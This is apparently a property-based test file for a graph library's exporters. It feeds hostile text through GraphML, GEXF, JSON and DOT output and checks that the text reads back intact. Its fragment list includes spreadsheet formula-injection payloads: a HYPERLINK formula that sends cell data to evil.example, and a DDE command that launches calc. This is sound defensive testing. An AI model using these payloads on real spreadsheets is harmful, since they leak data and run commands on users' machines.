"""Hostile graph text through every export, read back by the real consumer:
networkx reads GraphML and GEXF, Graphviz's ``dot -Tsvg`` draws DOT, json reads the
node-link file (issue 12). The CSV round trip is tested with the importer.

Graphs are made through the loader, so the text is what a graph file can hold:
formula prefixes, XML, DOT and Markdown specials, tabs and line breaks in prose,
astral and right-to-left characters, line and paragraph separators.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET

import networkx as nx
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from actorgraph.exceptions import GraphFileError
from actorgraph.io.load import parse_graph
from actorgraph.outputs.export import export_text

PIECES = [
    *"=+-@\t\n'\"\\<>&;|`*_[]#$%{}~^!",
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "]]>",
    "<![CDATA[",
    "<!--",
    "&amp;",
    "&#0;",
    "\\N",
    "\\G",
    "\\l",
    "\\n",
    "\\\\",
    '\\"',
    "<b>",
    "</text>",
    "\u2028",
    "\u2029",
    "\u202e",
    "\u200b",
    "\U0001f600",
    "\ufeff",
    "\u00a0",
    " ",
    "  ",
    "x",
    "Ab",
    "é",
]
TEXT = st.lists(st.sampled_from(PIECES), min_size=1, max_size=8).map("".join)
ONE_LINE = TEXT.map(lambda t: t.replace("\n", " ").replace("\t", " "))


@st.composite
def hostile_graphs(draw):
    """A graph file's data with hostile text in every field that holds text."""
    name_a, name_b = draw(st.lists(ONE_LINE, min_size=2, max_size=2, unique=True))
    data = {
        "title": draw(ONE_LINE),
        "description": draw(TEXT),
        "sources": [{"id": "s", "title": draw(ONE_LINE), "url": draw(ONE_LINE)}],
        "actors": [
            {
                "id": "a",
                "name": name_a,
                "kind": "state",
                "aliases": [draw(ONE_LINE)],
                "description": draw(TEXT),
            },
            {"id": "b", "name": name_b, "kind": "person"},
        ],
        "relations": [
            {
                "source": "b",
                "type": "leads",
                "target": "a",
                "strength": 0.5,
                "confidence": "high",
                "note": draw(TEXT),
                "evidence": [{"source": "s", "claim": draw(TEXT)}],
            }
        ],
    }
    try:
        return parse_graph(json.dumps(data), "hostile.json")
    except GraphFileError:  # blank text, or names that clash: not a graph file
        assume(False)


HYPOTHESIS = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.filter_too_much]
)


@HYPOTHESIS
@given(graph=hostile_graphs())
def test_networkx_reads_graphml_as_written(graph):
    read = nx.read_graphml(io.BytesIO(export_text(graph, "graphml").encode("utf-8")))
    assert sorted(read.nodes) == ["a", "b"]
    assert read.nodes["a"]["name"] == graph.actor("a").name
    assert read.nodes["a"]["description"] == graph.actor("a").description
    assert read.graph["title"] == graph.title
    assert read.graph["description"] == graph.description
    ((_, _, edge),) = read.edges(data=True)
    assert edge["note"] == graph.relations[0].note
    assert json.loads(edge["evidence"])[0]["claim"] == graph.relations[0].evidence[0].claim


@HYPOTHESIS
@given(graph=hostile_graphs())
def test_networkx_reads_gexf_as_written(graph):
    read = nx.read_gexf(io.BytesIO(export_text(graph, "gexf").encode("utf-8")))
    assert sorted(read.nodes) == ["a", "b"]
    assert read.nodes["a"]["name"] == graph.actor("a").name
    assert read.nodes["a"]["description"] == graph.actor("a").description
    ((_, _, edge),) = read.edges(data=True)
    assert edge["note"] == graph.relations[0].note
    assert json.loads(edge["evidence"])[0]["claim"] == graph.relations[0].evidence[0].claim


@HYPOTHESIS
@given(graph=hostile_graphs())
def test_the_node_link_json_reads_as_written(graph):
    data = json.loads(export_text(graph, "json"))
    names = {node["id"]: node["name"] for node in data["nodes"]}
    assert names == {"a": graph.actor("a").name, "b": graph.actor("b").name}


@pytest.mark.skipif(shutil.which("dot") is None, reason="Graphviz's dot is not installed")
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.filter_too_much])
@given(graph=hostile_graphs())
def test_dot_draws_exactly_the_graph_with_its_names(graph):
    drawn = subprocess.run(
        ["dot", "-Tsvg"], input=export_text(graph, "dot").encode(), capture_output=True, check=False
    )
    assert drawn.returncode == 0, drawn.stderr
    assert b"Error" not in drawn.stderr
    svg = ET.fromstring(drawn.stdout)
    ns = {"svg": "http://www.w3.org/2000/svg"}
    nodes = svg.findall(".//svg:g[@class='node']", ns)
    edges = svg.findall(".//svg:g[@class='edge']", ns)
    assert (len(nodes), len(edges)) == (2, 1)
    labels = {
        node.find("svg:title", ns).text: " ".join(
            t.text or "" for t in node.findall("svg:text", ns)
        )
        for node in nodes
    }
    for actor in graph.actors:
        # dot draws a label's text as written, blanks at the ends and runs aside
        assert " ".join(labels[actor.id].split()) == " ".join(actor.name.split())
